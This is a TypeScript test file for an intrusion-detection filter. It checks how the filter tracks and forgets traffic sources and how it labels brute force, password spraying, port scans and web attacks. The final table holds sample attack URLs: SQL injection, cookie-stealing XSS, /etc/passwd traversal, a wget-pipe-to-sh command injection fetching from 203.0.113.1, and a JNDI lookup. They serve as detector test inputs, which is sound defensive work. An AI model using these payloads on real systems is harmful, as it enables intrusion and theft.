/** What a source did lately is remembered, fades, and can't be flushed away. */
import { describe, expect, it } from "vitest";
import { Filter } from "../../host/filter.ts";
import { feature, login, packet, START, score, web } from "./traffic.ts";

describe("a source", () => {
  it("that guesses paths under a browser's name is a robot after a few dozen requests", () => {
    const filter = Filter.load();
    const first = score(filter, web("203.0.113.7", "/", START, 200));
    expect(first.label).toBe("normal");
    for (let i = 0; i < 60; i++) score(filter, web("203.0.113.7", `/guess${i}`, START + i / 4));
    expect(score(filter, web("203.0.113.7", "/one-more", START + 16)).bot).toBeGreaterThan(0.5);
    // Somebody else who asks for the same thing is not.
    expect(score(filter, web("198.51.100.9", "/one-more", START + 16)).bot).toBeLessThan(0.5);
  });

  it("is forgotten as time goes by", () => {
    const filter = Filter.load();
    for (let i = 0; i < 50; i++) score(filter, web("203.0.113.7", `/x${i}`, START + i));
    expect(feature(filter, web("203.0.113.7", "/y", START + 51), "source_events")).toBeGreaterThan(45);
    expect(feature(filter, web("203.0.113.7", "/y", START + 51 + 1800), "source_events")).toBeLessThan(20);
  });

  it("stays known through a flood of others that appear once", () => {
    const filter = Filter.load();
    for (let i = 0; i < 40; i++) score(filter, web("203.0.113.7", `/.env.${i}`, START + i));
    for (let i = 0; i < 30_000; i++) {
      const ip = `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`;
      score(filter, web(ip, `/p${i % 50}`, START + 40 + i / 1000, 200));
    }
    expect(feature(filter, web("203.0.113.7", "/again", START + 75), "source_suspicious")).toBeGreaterThan(
      30,
    );
  });

  it("of IPv6 is its /64, whatever comes behind", () => {
    const filter = Filter.load();
    for (let i = 0; i < 20; i++) score(filter, web(`2001:db8:1:2::${i.toString(16)}`, `/a${i}`, START + i));
    expect(feature(filter, web("2001:db8:1:2::ffff", "/b", START + 20), "source_events")).toBeGreaterThan(15);
  });

  it("does not bring its clock's jumps into others' counts, or stop counting", () => {
    const filter = Filter.load();
    for (let i = 0; i < 10; i++) score(filter, web("203.0.113.7", `/a${i}`, START + 3600 + i));
    for (let i = 0; i < 10; i++) score(filter, web("203.0.113.7", `/b${i}`, START - 7200 + i));
    const events = feature(filter, web("203.0.113.7", "/c", START - 7190), "source_events");
    expect(events).toBeGreaterThan(5);
    expect(events).toBeLessThan(12);
  });
});

describe("the kind of attack", () => {
  it("is brute force when one account is tried, and spraying when many are", () => {
    const filter = Filter.load();
    let event = score(filter, login("203.0.113.8", "root", START));
    for (let i = 1; i < 30; i++) event = score(filter, login("203.0.113.8", "root", START + i * 60));
    expect(event).toMatchObject({
      kind: "auth",
      label: "attack",
      why: expect.arrayContaining(["attack:brute-force"]),
    });
    for (let i = 1; i < 30; i++) event = score(filter, login("203.0.113.9", `user${i}`, START + i));
    expect(event.why[0]).toBe("attack:password-spraying");
  });

  it("is a port scan when one source knocks at many", () => {
    const filter = Filter.load();
    let event = score(filter, packet("203.0.113.10", 20, START));
    for (let port = 21; port < 120; port++)
      event = score(filter, packet("203.0.113.10", port, START + port / 50));
    expect(event).toMatchObject({ kind: "firewall", label: "attack" });
    expect(event.why[0]).toBe("attack:port-scan");
  });

  it.each([
    ["/item?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--%20-", "attack:sql-injection"],
    ["/q?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "attack:xss"],
    ["/view?f=../../../../etc/passwd", "attack:traversal"],
    ["/run?x=;wget%20http://203.0.113.1/a.sh%20-O-|sh", "attack:command-injection"],
    ["/?x=$%7Bjndi:ldap://203.0.113.1/a%7D", "attack:jndi-lookup"],
    ["/.git/config", "probe:dotfile"],
  ])("is told for %s", (target, why) => {
    expect(score(Filter.load(), web("203.0.113.11", target, START, 200))).toMatchObject({
      label: "attack",
      why: expect.arrayContaining([why]),
    });
  });
});
